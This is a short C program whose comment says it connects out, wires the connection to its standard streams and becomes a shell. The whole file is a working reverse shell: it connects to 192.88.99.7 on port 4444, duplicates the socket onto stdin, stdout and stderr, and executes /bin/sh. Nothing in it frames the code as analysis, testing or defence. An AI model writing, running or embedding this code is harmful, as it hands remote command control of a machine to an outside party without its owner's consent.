/* Connects, puts the connection behind its standard streams, and becomes a shell. */
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(4444)};
    inet_pton(AF_INET, "192.88.99.7", &peer.sin_addr);
    if (connect(s, (struct sockaddr *)&peer, sizeof peer) < 0) return 1;
    for (int fd = 0; fd < 3; fd++) dup2(s, fd);
    char *argv[] = {"sh", 0};
    execve("/bin/sh", argv, 0);
    return 1;
}
